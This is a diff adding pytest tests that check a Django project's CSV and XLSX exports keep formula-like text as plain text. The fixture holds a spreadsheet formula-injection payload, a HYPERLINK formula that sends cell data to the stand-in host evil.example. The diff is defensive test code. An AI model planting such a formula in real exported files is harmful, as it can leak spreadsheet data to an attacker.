@@ -3,6 +3,7 @@ and sort key's rows: test_project_filters.py)."""
 
 import csv
 import io
+from decimal import Decimal
 from urllib.parse import parse_qs, urlparse
 
 import pytest
@@ -10,6 +11,7 @@ from openpyxl import load_workbook
 
 from projects.choices import Stage
 from projects.models import Project
+from tests.factories import ProjectFactory
 
 from .conftest import assert_valid_html
 from .helpers import listed_codes
@@ -126,6 +128,44 @@ def test_xlsx_export_matches_the_list(client, site):
     assert values[0][0] == "项目代码"
     assert [row[0] for row in values[1:]] == listed_codes(page)
     assert all(isinstance(row[9], (int, float)) for row in values[1:])
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "location": "@SUM(1+1)",
+}
+
+
+@pytest.fixture
+def formula_project(site):
+    return ProjectFactory(
+        code="formula",
+        district=site["districts"][0],
+        name=FORMULAS["name"],
+        location=FORMULAS["location"],
+        total_investment=Decimal("1000.00"),
+    )
+
+
+def test_csv_export_keeps_formula_like_text_as_text(client, formula_project):
+    response = client.get("/projects/export.csv?search=formula")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    [header, row] = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["项目名称"] == "'" + FORMULAS["name"]
+    assert cells["建设地点"] == "'" + FORMULAS["location"]
+    assert cells["总投资（万元）"] == "1000.00"
+
+
+def test_xlsx_export_keeps_formula_like_text_as_text(client, formula_project):
+    response = client.get("/projects/export.xlsx?search=formula")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    for column, text in (("项目名称", FORMULAS["name"]), ("建设地点", FORMULAS["location"])):
+        assert cells[column].value == text
+        assert cells[column].data_type == "s" and cells[column].quotePrefix
+    assert cells["总投资（万元）"].data_type == "n"
 
 
 def test_export_links_carry_the_filters_but_not_the_page(client, site):
